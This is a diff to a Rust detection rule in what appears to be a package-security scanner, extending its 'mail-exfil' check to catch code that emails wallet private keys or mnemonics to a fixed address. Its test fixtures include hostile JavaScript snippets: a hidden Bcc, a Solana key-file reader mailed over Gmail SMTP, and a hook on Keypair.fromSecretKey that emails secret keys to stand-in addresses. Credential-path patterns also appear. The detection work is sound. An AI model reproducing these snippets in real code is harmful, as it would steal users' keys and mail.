@@ -7,8 +7,8 @@ use crate::rules::{Emitter, all_text, code_files, is_doc_path};
 crate::declare_rule! {
     /// Mail sent to an address the package fixes itself: a hard-coded `Bcc` on the messages a
     /// mail library or agent tool sends for its user (a silent copy of every message), or a
-    /// literal recipient in a file that also reads credential or wallet files (stolen files
-    /// mailed out over SMTP). Mail tools take recipients from their caller.
+    /// literal recipient in a file that also reads credential or wallet files or handles wallet
+    /// private keys, seeds or mnemonics (stolen files or keys mailed out over SMTP). Mail tools take recipients from their caller.
     id: "mail-exfil",
     category: Network,
     severity: Critical,
@@ -17,10 +17,12 @@ crate::declare_rule! {
     incident: "postmark-mcp 1.0.16 (2025) BCC'd every message to its author; wallet stealers mailing key files over Gmail SMTP",
     case_file: "index.js",
     flag: ["await client.sendEmail({ From: from, To: to, Bcc: 'copy@mail.example', Subject: s, TextBody: t })",
-           "const k = fs.readFileSync(path.join(os.homedir(), '.config', 'solana', 'id.json')); const t = nodemailer.createTransport({ service: 'gmail' }); t.sendMail({ from: u, to: 'drop@mail.example', attachments: [{ content: k }] })"],
+           "const k = fs.readFileSync(path.join(os.homedir(), '.config', 'solana', 'id.json')); const t = nodemailer.createTransport({ service: 'gmail' }); t.sendMail({ from: u, to: 'drop@mail.example', attachments: [{ content: k }] })",
+           "const t = nodemailer.createTransport({ service: 'gmail' }); const orig = Keypair.fromSecretKey; Keypair.fromSecretKey = (k) => { t.sendMail({ from: 'a@x.example', to: 'b@x.example', text: bs58.encode(k) }); return orig(k) }"],
     pass: ["t.sendMail({ from: cfg.user, to, subject: 'Build report', text: report })",
            "t.sendMail({ from: 'noreply@app.example', to: user.email, bcc: opts.bcc })",
-           "t.sendMail({ from: 'a@b.example', to: 'ops@b.example', subject: 'disk full' })"],
+           "t.sendMail({ from: 'a@b.example', to: 'ops@b.example', subject: 'disk full' })",
+           "const w = Wallet.fromMnemonic(m); t.sendMail({ from: 'bot@b.example', to: user.email, text: `your address ${w.address}` })"],
 }
 
 fn check(pkg: &Package, out: &mut Emitter) {
@@ -29,6 +31,10 @@ fn check(pkg: &Package, out: &mut Emitter) {
     let send = crate::regex!(r"(?i)sendMail\(|sendEmail\(|createTransport\(|smtp");
     let creds = crate::regex!(
         r"(?i)\.ssh[/\\'\x22`]|id_rsa|\.aws[/\\'\x22`]|solana[/\\'\x22`,\s]+id\.json|keystore|wallet\.dat|exodus|electrum|Login Data|\.npmrc|\.git-credentials"
+    );
+    // Wallet key material the code holds: a secret key, private key, seed or mnemonic.
+    let keys = crate::regex!(
+        r"\b(secretKey|privateKey|mnemonic|seedPhrase|fromSecretKey|fromSeed|fromMasterSeed|fromMnemonic|fromPhrase)\b"
     );
     for f in code_files(pkg) {
         if is_doc_path(&f.path) {
@@ -49,6 +55,13 @@ fn check(pkg: &Package, out: &mut Emitter) {
             (
                 m,
                 "mails data to a fixed address from a file that reads credential or wallet files",
+            )
+        } else if let Some(m) = to.find(text)
+            && keys.is_match(text)
+        {
+            (
+                m,
+                "mails data to a fixed address from a file that handles wallet private keys",
             )
         } else {
             continue;
